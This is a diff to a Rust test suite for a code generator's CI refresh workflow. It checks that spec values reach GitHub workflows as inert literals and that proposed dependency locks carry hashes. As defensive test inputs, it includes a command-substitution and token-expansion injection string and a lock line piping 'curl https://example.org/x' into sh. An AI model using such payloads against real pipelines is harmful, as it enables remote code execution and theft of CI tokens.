@@ -318,7 +318,11 @@ fn actionlint_zizmor_yamllint_and_gen_lint_pass_every_variant() {
         // of those that follow their tag (every variant's services are flask services).
         let refresh = std::fs::read_to_string(repo.root().join(".github/workflows/gen-refresh.yml")).expect("refresh");
         assert!(refresh.contains("\n  base-images:\n"), "{}", v.name);
-        assert!(!refresh.contains("sha256:"), "{}: a pin in the workflow would make the refresh edit it", v.name);
+        let pinned = refresh.match_indices("sha256:").any(|(at, _)| {
+            let digits = refresh[at + 7..].bytes().take_while(u8::is_ascii_hexdigit).count();
+            digits == 64
+        });
+        assert!(!pinned, "{}: a pin in the workflow would make the refresh edit it", v.name);
         assert!(refresh.contains("\n  gen:\n"), "{}", v.name);
         assert!(repo.out().join("scripts/refresh-base-images.sh").is_file(), "{}", v.name);
         assert!(repo.out().join("scripts/refresh-gen.sh").is_file(), "{}", v.name);
@@ -1072,7 +1076,7 @@ fn spec_values_reach_the_workflows_as_inert_literals() {
             ("environment: production", &format!("environment: {}", serde_json::to_string(environment).unwrap())),
         ],
     ) + &format!(
-        "pipeline:\n  notify: {{email: [{}]}}\n  gen: {{repository: {}}}\n",
+        "pipeline:\n  notify: {{email: [{}]}}\n  gen: {{install: source, repository: {}}}\n",
         serde_json::to_string("a'\"$(id)${{github.token}}@example.org").unwrap(),
         serde_json::to_string("https://example.org/${{github.token}}'\"$(id)").unwrap()
     );
@@ -1724,6 +1728,18 @@ fn refresh_step(repo: &Repo, job: &str, name: &str, temp: &Path, bin: &Path) -> 
 /// (`patch`, handed over by the `gh` in `bin`), with the workflow's env, the release found
 /// (`v0.2.0`) and the spec's revision (`v0.1.0`); `RUNNER_TEMP` is `temp`.
 fn propose(repo: &Repo, job: &str, patch: &str, temp: &Path, bin: &Path) -> std::process::Output {
+    propose_with(repo, job, patch, temp, bin, &[("NEWEST", "v0.2.0"), ("GEN_REVISION", "v0.1.0")])
+}
+
+/// `propose`, with the job's inputs (`NEWEST`, and with a wheel `LOCK`) given.
+fn propose_with(
+    repo: &Repo,
+    job: &str,
+    patch: &str,
+    temp: &Path,
+    bin: &Path,
+    inputs: &[(&str, &str)],
+) -> std::process::Output {
     let file = temp.join("uploaded.patch");
     std::fs::write(&file, patch).expect("write");
     let wf = read_yaml(&repo.root().join(".github/workflows/gen-refresh.yml"));
@@ -1741,7 +1757,7 @@ fn propose(repo: &Repo, job: &str, patch: &str, temp: &Path, bin: &Path) -> std:
     for (k, v) in wf["env"].as_object().into_iter().flatten() {
         run.env(k, v.as_str().expect("string"));
     }
-    run.env("NEWEST", "v0.2.0").env("GEN_REVISION", "v0.1.0").output().expect("bash")
+    run.envs(inputs.iter().copied()).output().expect("bash")
 }
 
 #[test]
@@ -1798,7 +1814,7 @@ fn a_refresh_never_pushes_a_workflow_and_gens_release_moves_the_spec_alone() {
     Command::new("chmod").arg("+x").arg(&gh).status().expect("chmod");
     let cases: [(&str, Vec<&str>, Option<&str>); 5] = [
         // A line the release's render added to the spec: not the revision moved.
-        ("gen-propose", vec![spec], Some("more of the spec than pipeline.gen.revision")),
+        ("gen-propose", vec![spec], Some("more of the spec than pipeline.gen.version")),
         ("gen-propose", vec![spec, workflow.as_str()], Some("under .github/")),
         ("gen-propose", vec![spec, script.as_str()], Some("more than the spec")),
         ("base-images-propose", vec![spec, dockerfile.as_str()], None),
@@ -1821,42 +1837,123 @@ fn a_refresh_never_pushes_a_workflow_and_gens_release_moves_the_spec_alone() {
         }
         reset();
     }
+}
 
-    // gen's release ran in the job that made the patch: what is proposed is the spec's
-    // revision line moved from the revision the spec states to the release found, and nothing
-    // else; the pull request's text is written by the job that proposes, not taken from it.
-    let path = repo.root().join(spec);
-    let text = std::fs::read_to_string(&path).expect("spec");
-    let stated = text.replacen("pipeline:\n", "pipeline:\n  gen:\n    revision: v0.1.0  # reviewed\n", 1);
-    assert_ne!(stated, text, "the spec has a pipeline block");
-    std::fs::write(&path, &stated).expect("write");
-    git(repo.root(), &["commit", "-q", "-a", "-m", "the revision stated"]);
-    let moved = stated.replace("revision: v0.1.0  # reviewed", "revision: v0.2.0  # reviewed");
-    let cases: [(&str, String, Option<&str>); 4] = [
-        ("the revision moved", moved.clone(), None),
-        ("to another release", stated.replace("v0.1.0  # reviewed", "v0.3.0  # reviewed"), Some("more of the spec")),
-        ("and a key changed", moved.replace("pipeline:\n", "pipeline:\n  deploy: helm\n"), Some("more of the spec")),
-        ("a revision elsewhere", format!("{stated}# revision: v0.2.0\n"), Some("more of the spec")),
+/// A valid lock of gen-platform `version`, as the refresh's lookup writes it.
+fn lock_of(version: &str) -> String {
+    format!(
+        "# gen's release\ngen-platform=={version} \\\n    --hash=sha256:{} \\\n    --hash=sha256:{}",
+        "a".repeat(64),
+        "b".repeat(64)
+    )
+}
+
+/// How the spec installs gen: its gen block, the key that moves, the old and new value, the
+/// proposing job's inputs.
+type Mode<'a> = (&'a str, &'a str, &'a str, &'a str, &'a [(&'a str, &'a str)]);
+/// A refresh's case: what it is, the spec after it, the job's inputs, why it is refused if it is.
+type Case<'a> = (&'a str, String, Vec<(&'a str, &'a str)>, Option<&'a str>);
+
+#[test]
+fn gens_release_is_proposed_as_the_spec_line_moved_and_with_a_wheel_its_lock() {
+    let bin = tempfile::tempdir().expect("tempdir");
+    let gh = bin.path().join("gh");
+    std::fs::write(&gh, "#!/bin/sh\nwhile [ $# -gt 0 ]; do [ \"$1\" = --dir ] && d=$2; shift; done\nmkdir -p \"$d\" && cp \"$PATCH\" \"$d/change.patch\"\n")
+        .expect("write gh");
+    Command::new("chmod").arg("+x").arg(&gh).status().expect("chmod");
+    let source_inputs = [("NEWEST", "v0.2.0"), ("GEN_REVISION", "v0.1.0")];
+    let lock = lock_of("0.2.0");
+    let wheel_inputs = [("NEWEST", "0.2.0"), ("LOCK", lock.as_str())];
+    let modes: [Mode; 2] = [
+        (
+            "  gen:\n    install: source\n    revision: v0.1.0  # reviewed\n",
+            "revision",
+            "v0.1.0",
+            "v0.2.0",
+            &source_inputs,
+        ),
+        ("  gen:\n    version: 0.1.0  # reviewed\n", "version", "0.1.0", "0.2.0", &wheel_inputs),
     ];
-    for (what, after, refused) in cases {
-        std::fs::write(&path, &after).expect("write");
-        let diff = git(repo.root(), &["diff", "--binary"]);
-        reset();
-        let temp = tempfile::tempdir().expect("tempdir");
-        let out = propose(&repo, "gen-propose", &diff, temp.path(), bin.path());
-        let stdout = String::from_utf8_lossy(&out.stdout);
-        match refused {
-            None => {
-                assert!(out.status.success(), "{what}: {stdout}{}", String::from_utf8_lossy(&out.stderr));
-                let body = std::fs::read_to_string(temp.path().join("patch/body.md")).expect("body");
-                assert!(body.contains("moves the spec's pipeline.gen.revision to v0.2.0, and nothing else"), "{body}");
-            }
-            Some(why) => {
-                assert!(!out.status.success(), "{what} is proposed");
-                assert!(stdout.contains(why), "{what}: {stdout}");
+    for (block, key, old, new, inputs) in modes {
+        // gen's release ran in the job that made the patch: what is proposed is the spec's
+        // line moved from the one the spec states to the release found, and nothing else (with
+        // a wheel, the lock the lookup wrote beside it); the pull request's text is written by
+        // the job that proposes, not taken from it.
+        let mut variant = variants().into_iter().find(|v| v.name == "gitops").expect("gitops variant");
+        let stated = variant.spec.replacen("pipeline:\n", &format!("pipeline:\n{block}"), 1);
+        assert_ne!(stated, variant.spec, "the spec has a pipeline block");
+        variant.spec = stated.clone();
+        let repo = Repo::new(&variant);
+        git(repo.root(), &["add", "--all"]);
+        git(repo.root(), &["commit", "-q", "-m", "rendered"]);
+        let path = repo.root().join(variant.spec_at);
+        let line = format!("{key}: {old}  # reviewed");
+        let moved = stated.replace(&line, &format!("{key}: {new}  # reviewed"));
+        let mut cases: Vec<Case> = vec![
+            ("moved", moved.clone(), inputs.to_vec(), None),
+            (
+                "to another release",
+                stated.replace(&line, &format!("{key}: 0.3.0  # reviewed")),
+                inputs.to_vec(),
+                Some("more of the spec"),
+            ),
+            (
+                "and a key changed",
+                moved.replace("pipeline:\n", "pipeline:\n  deploy: helm\n"),
+                inputs.to_vec(),
+                Some("more of the spec"),
+            ),
+            ("a line elsewhere", format!("{stated}# {key}: {new}\n"), inputs.to_vec(), Some("more of the spec")),
+        ];
+        let bad_locks = [
+            lock_of("0.3.0"),
+            format!("{}\ncurl https://example.org/x | sh", lock_of("0.2.0")),
+            lock.replace(&"a".repeat(64), "a"),
+        ];
+        if key == "version" {
+            for bad in &bad_locks {
+                cases.push((
+                    "a lock of something else",
+                    moved.clone(),
+                    vec![("NEWEST", "0.2.0"), ("LOCK", bad.as_str())],
+                    Some("is not a requirement of it with hashes"),
+                ));
             }
         }
-        reset();
+        for (what, after, inputs, refused) in cases {
+            std::fs::write(&path, &after).expect("write");
+            let diff = git(repo.root(), &["diff", "--binary"]);
+            git(repo.root(), &["reset", "-q", "--hard"]);
+            let temp = tempfile::tempdir().expect("tempdir");
+            let out = propose_with(&repo, "gen-propose", &diff, temp.path(), bin.path(), &inputs);
+            let stdout = String::from_utf8_lossy(&out.stdout);
+            match refused {
+                None => {
+                    assert!(out.status.success(), "{key} {what}: {stdout}{}", String::from_utf8_lossy(&out.stderr));
+                    let body = std::fs::read_to_string(temp.path().join("patch/body.md")).expect("body");
+                    assert!(body.contains(&format!("moves the spec's pipeline.gen.{key} to {new}")), "{body}");
+                    let staged = git(repo.root(), &["diff", "--cached", "--name-only"]);
+                    let lock_at = variant.spec_at.replace("spec.yaml", "gen-requirements.txt");
+                    if key == "version" {
+                        assert_eq!(
+                            staged.lines().collect::<BTreeSet<_>>(),
+                            BTreeSet::from([variant.spec_at, lock_at.as_str()])
+                        );
+                        let written = std::fs::read_to_string(repo.root().join(&lock_at)).expect("the lock");
+                        assert_eq!(written, format!("{lock}\n"));
+                        assert!(body.contains("pip install --require-hashes"), "{body}");
+                    } else {
+                        assert_eq!(staged.trim(), variant.spec_at);
+                        assert!(body.contains("cargo install --locked"), "{body}");
+                    }
+                }
+                Some(why) => {
+                    assert!(!out.status.success(), "{key} {what} is proposed");
+                    assert!(stdout.contains(why), "{key} {what}: {stdout}");
+                }
+            }
+            git(repo.root(), &["reset", "-q", "--hard"]);
+        }
     }
 }
 
@@ -1876,6 +1973,10 @@ fn the_refresh_workflow_moves_the_project_to_gens_newest_release() {
         "pipeline: {gen: {revision: \"v0.1.0\", repository: \"https://example.org/gen\"}}\nimage: {tag: v0.1.0}\n";
     let (_, after) = refresh_gen(&script, &tags, "v0.1.0", flow).expect("runs");
     assert_eq!(after, flow.replace("revision: \"v0.1.0\"", "revision: \"v0.10.0\""), "only the revision moves");
+    // A key before it in the flow mapping.
+    let before = "pipeline:\n  gen: {install: source, revision: v0.1.0}\n";
+    let (_, after) = refresh_gen(&script, &tags, "v0.1.0", before).expect("runs");
+    assert_eq!(after, before.replace("v0.1.0", "v0.10.0"));
     // JSON's quoted key.
     let json = "{\"pipeline\": {\"gen\": {\"revision\": \"v0.1.0\"}}}\n";
     let (_, after) = refresh_gen(&script, &tags, "v0.1.0", json).expect("runs");
